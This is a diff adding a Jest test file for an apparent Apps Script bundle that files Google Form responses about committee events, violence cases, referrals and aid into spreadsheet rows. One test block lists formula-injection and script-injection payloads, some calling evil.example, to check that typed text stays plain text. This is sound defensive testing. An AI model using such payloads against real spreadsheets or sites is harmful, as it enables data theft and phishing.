@@ -1,0 +1,280 @@
+/**
+ * Form responses taken in through the bundle's onFormSubmitted: each to its canonical row,
+ * once, with an Event ID or case code never reused, choices in the workbook's language, typed
+ * text as text, the new row validated and marked.
+ */
+import type { FakeSpreadsheet } from '../fakes';
+import {
+  assistanceAnswers,
+  caseAnswers,
+  eventAnswers,
+  referralAnswers,
+  workbookWithForms,
+} from './forms-helpers';
+import { ensureBuilt } from './load-bundle';
+import { columnOf, dataRows, day, writeRows } from './workbook-data';
+
+beforeAll(() => ensureBuilt());
+
+function problems(spreadsheet: FakeSpreadsheet, sheet: string) {
+  return dataRows(spreadsheet.sheet('Problems'))
+    .filter((line) => line[0] === sheet)
+    .map((line) => ({ row: line[1], rule: line[4] }));
+}
+
+describe('one response of each form', () => {
+  const wb = workbookWithForms();
+  wb.respond('event', eventAnswers(0));
+  wb.respond('case', caseAnswers(0));
+  wb.respond('case', caseAnswers(1, { Committee: 'TOKM — Committee TOKM' }));
+  wb.respond('followup', referralAnswers('kant-2025-0001 '));
+  wb.respond('followup', assistanceAnswers('KANT-2025-0001'));
+
+  test('an event report becomes an Events row with an Event ID, Source = form, Entered at', () => {
+    const [row] = wb.rows('events');
+    expect(row).toMatchObject({
+      'Event ID': 'EV-000001',
+      'Committee ID': 'KANT',
+      Type: 'Training / seminar',
+      Audience: 'Parents',
+      Participants: 25,
+      Women: 15,
+      Men: 10,
+      Partners: 'Police, School',
+      Topic: 'Prevention talk 0',
+      Source: 'Form',
+    });
+    expect(row?.Date).toEqual(day(2025, 1, 1));
+    expect(row?.['Entered at']).toEqual(wb.form('event').responses[0]?.getTimestamp());
+  });
+
+  test('a new case gets committee prefix, year and sequence', () => {
+    expect(wb.rows('cases').map((r) => [r['Case code'], r['Violence type'], r.Status])).toEqual([
+      ['KANT-2025-0001', 'Physical, Psychological', 'Open'],
+      ['TOKM-2025-0001', 'Physical, Psychological', 'Open'],
+    ]);
+  });
+
+  test('a follow-up becomes a Referrals or an Assistance row, its case code cleaned', () => {
+    expect(wb.rows('referrals')).toEqual([
+      {
+        'Case code': 'KANT-2025-0001',
+        Date: day(2025, 6, 2),
+        'Referred to': 'Crisis centre',
+        Outcome: 'Service received',
+      },
+    ]);
+    expect(wb.rows('assistance')).toEqual([
+      {
+        'Case code': 'KANT-2025-0001',
+        Date: day(2025, 6, 3),
+        Type: 'Cash aid',
+        'Amount KGS': 6500,
+        Provider: 'Ayil okmotu',
+      },
+    ]);
+  });
+
+  test('each response is marked taken in, and the Log says where it went', () => {
+    expect(wb.statuses('event')).toEqual(['✓ EV-000001 → "Events", row 2']);
+    expect(wb.statuses('case')).toEqual([
+      '✓ KANT-2025-0001 → "Cases", row 2',
+      '✓ TOKM-2025-0001 → "Cases", row 3',
+    ]);
+    expect(wb.statuses('followup')).toEqual(['✓ → "Referrals", row 2', '✓ → "Assistance", row 2']);
+    const log = wb.logLines().map((line) => [line[1], line[3]]);
+    expect(log).toContainEqual([
+      'Response to "Korgoo: event report"',
+      'sheet "Events", row 2, EV-000001; problems: 0',
+    ]);
+  });
+});
+
+test('a bilingual form answered in a Russian workbook writes the Russian labels', () => {
+  const wb = workbookWithForms({ lang: 'ru', bilingual: true });
+  wb.respond('event', {
+    Комитет: 'NARYN — Committee NARYN',
+    'Дата / Күнү': day(2025, 4, 10),
+    'Тип / Түрү': 'Обучение / семинар / Окутуу / семинар',
+    'Участники / Катышуучулар': 30,
+    'Партнёры / Өнөктөштөр': ['ОВД / ИИО', 'Школа / Мектеп'],
+  });
+  expect(wb.rows('events')[0]).toMatchObject({
+    'ID мероприятия': 'EV-000001',
+    'ID комитета': 'NARYN',
+    Тип: 'Обучение / семинар',
+    Участники: 30,
+    Партнёры: 'ОВД, Школа',
+    Источник: 'Форма',
+  });
+  expect(wb.statuses('event')).toEqual(['✓ EV-000001 → «Мероприятия», строка 2']);
+});
+
+describe('identifiers are never reused', () => {
+  test('a case code above the counter and above every code in the sheet', () => {
+    const wb = workbookWithForms();
+    for (let i = 0; i < 3; i++) wb.respond('case', caseAnswers(i));
+    // The last case is deleted by hand: its code is not handed out again.
+    wb.sheet('cases').grid.deleteRows(4, 1);
+    wb.respond('case', caseAnswers(3));
+    // A code typed by hand, further on: the next one goes above it.
+    writeRows(wb.sheet('cases'), 10, [['KANT-2025-0010', 'KANT']]);
+    wb.respond('case', caseAnswers(4));
+    // Another year starts its own sequence.
+    wb.respond('case', caseAnswers(5, { 'Identified on': day(2024, 12, 31) }));
+    expect(
+      wb
+        .rows('cases')
+        .map((r) => r['Case code'])
+        .filter(Boolean),
+    ).toEqual([
+      'KANT-2025-0001',
+      'KANT-2025-0002',
+      'KANT-2025-0004',
+      'KANT-2025-0010',
+      'KANT-2025-0011',
+      'KANT-2024-0001',
+    ]);
+  });
+
+  test('an Event ID above every ID in the sheet, typed ones included', () => {
+    const wb = workbookWithForms({ events: 5 });
+    writeRows(wb.sheet('events'), 7, [['EV-000041']]);
+    wb.respond('event', eventAnswers(1));
+    expect(wb.statuses('event')).toEqual(['✓ EV-000042 → "Events", row 8']);
+  });
+});
+
+describe('1,000 responses', () => {
+  const wb = workbookWithForms();
+  const committees = ['KANT — Committee KANT', 'TOKM — Committee TOKM', 'NARYN — Committee NARYN'];
+  const events: ReturnType<typeof wb.submit>[] = [];
+  beforeAll(() => {
+    for (let i = 0; i < 1000; i++) {
+      const event =
+        i % 5 === 4
+          ? wb.submit('case', caseAnswers(i, { Committee: committees[i % 3] }))
+          : wb.submit('event', eventAnswers(i, { Committee: committees[i % 3] }));
+      events.push(event);
+      wb.deliver(event);
+    }
+  });
+
+  test('give 1,000 canonical rows with unique ids', () => {
+    const ids = [
+      ...wb.rows('events').map((r) => r['Event ID']),
+      ...wb.rows('cases').map((r) => r['Case code']),
+    ];
+    expect(ids).toHaveLength(1000);
+    expect(new Set(ids).size).toBe(1000);
+    expect(wb.rows('events')).toHaveLength(800);
+    expect(wb.rows('cases')).toHaveLength(200);
+  });
+
+  test('delivered a second time (Apps Script fires twice), still 1,000', () => {
+    for (const event of events) wb.deliver(event);
+    // And once more, all of them, in reverse order.
+    for (const event of [...events].reverse()) wb.deliver(event);
+    expect(wb.rows('events')).toHaveLength(800);
+    expect(wb.rows('cases')).toHaveLength(200);
+    expect(wb.statuses('event').every((s) => String(s).startsWith('✓'))).toBe(true);
+    expect(wb.statuses('case').every((s) => String(s).startsWith('✓'))).toBe(true);
+  });
+});
+
+describe('typed text lands as text', () => {
+  const PAYLOADS = [
+    '=IMPORTXML("http://evil.example/x","//a")',
+    '+1+1',
+    '-2',
+    '@SUM(A1:A9)',
+    '=HYPERLINK("http://evil.example","click")',
+    '\t=1+1',
+    '\r=1+1',
+    '<script>alert(1)</script>',
+    '<img src=x onerror="alert(1)">',
+    '<b>bold</b> & <i>more</i>',
+  ];
+  const wb = workbookWithForms();
+  for (const payload of PAYLOADS) {
+    wb.respond('event', eventAnswers(1, { Topic: payload, Decisions: payload }));
+    wb.respond(
+      'followup',
+      assistanceAnswers(payload, { Provider: payload, Type: 'In-kind aid', 'Amount KGS': '' }),
+    );
+  }
+
+  test('in every free-text answer, exactly as typed', () => {
+    const events = wb.rows('events');
+    expect(events.map((r) => r.Topic)).toEqual(PAYLOADS);
+    expect(events.map((r) => r.Decisions)).toEqual(PAYLOADS);
+    expect(wb.rows('assistance').map((r) => r.Provider)).toEqual(PAYLOADS);
+    expect(wb.rows('assistance').map((r) => r['Case code'])).toEqual(
+      PAYLOADS.map((p) => p.trim().toUpperCase()),
+    );
+  });
+
+  test('no cell of the workbook holds a formula', () => {
+    const formulas: string[] = [];
+    for (const sheet of wb.s.spreadsheet.sheetList()) {
+      sheet.grid.forEachCell((cell, row, col) => {
+        if (cell.formula)
+          formulas.push(`${sheet.getNameUncounted()}!R${row}C${col}: ${cell.formula}`);
+      });
+    }
+    expect(formulas).toEqual([]);
+  });
+});
+
+describe('a response is kept and its problems are flagged', () => {
+  test('naming a committee that was closed since the form was made', () => {
+    const wb = workbookWithForms();
+    // KANT is closed by hand; the forms still offer it (no sync ran).
+    wb.sheet('committees').grid.cell(2, columnOf('committees', 'status')).value = 'Closed';
+    wb.respond('event', eventAnswers(3));
+    expect(wb.rows('events')).toHaveLength(1);
+    expect(wb.rows('events')[0]?.['Committee ID']).toBe('KANT');
+    expect(problems(wb.s.spreadsheet, 'Events')).toEqual([
+      { row: 2, rule: 'committee_not_active' },
+    ]);
+    const cell = wb.sheet('events').grid.peek(2, columnOf('events', 'committeeId'));
+    expect(cell.note).toContain('Korgoo');
+    expect(cell.background).toBe('#fff2cc');
+  });
+
+  test('with more women and men than participants, and an unknown case code', () => {
+    const wb = workbookWithForms();
+    wb.respond('event', eventAnswers(3, { Participants: '5' }));
+    wb.respond('followup', referralAnswers('KANT-2025-0099'));
+    expect(problems(wb.s.spreadsheet, 'Events')).toEqual([
+      { row: 2, rule: 'women_men_exceed_participants' },
+    ]);
+    expect(problems(wb.s.spreadsheet, 'Referrals').map((p) => p.rule)).toContain('unknown_case');
+    expect(wb.rows('referrals')).toHaveLength(1);
+  });
+});
+
+describe('what is not a Korgoo response is left alone', () => {
+  test('a blank event, an event without a range, a header row', () => {
+    const wb = workbookWithForms();
+    wb.run('onFormSubmitted', undefined);
+    wb.run('onFormSubmitted', {});
+    wb.run('onFormSubmitted', { range: null });
+    wb.run('onFormSubmitted', { range: wb.responseSheet('event').rangeAt(1, 1, 1, 3) });
+    expect(wb.rows('events')).toEqual([]);
+    expect(wb.s.counter.byPrefix('Range.set')).toBe(0);
+  });
+
+  test("a response to a coordinator's own form linked to the same spreadsheet", () => {
+    const wb = workbookWithForms();
+    const own = wb.s.FormApp.create('Satisfaction survey');
+    own.addTextItem().setTitle('Topic');
+    own.setDestination('SPREADSHEET', wb.s.spreadsheet.id);
+    const event = wb.s.FormApp.submit(own.id, { Topic: 'fine' });
+    wb.s.counter.reset();
+    wb.deliver(event as NonNullable<typeof event>);
+    expect(wb.rows('events')).toEqual([]);
+    expect(wb.s.counter.byPrefix('Range.set')).toBe(0);
+    expect(own.responseSheet?.grid.lastColumn()).toBe(2);
+  });
+});
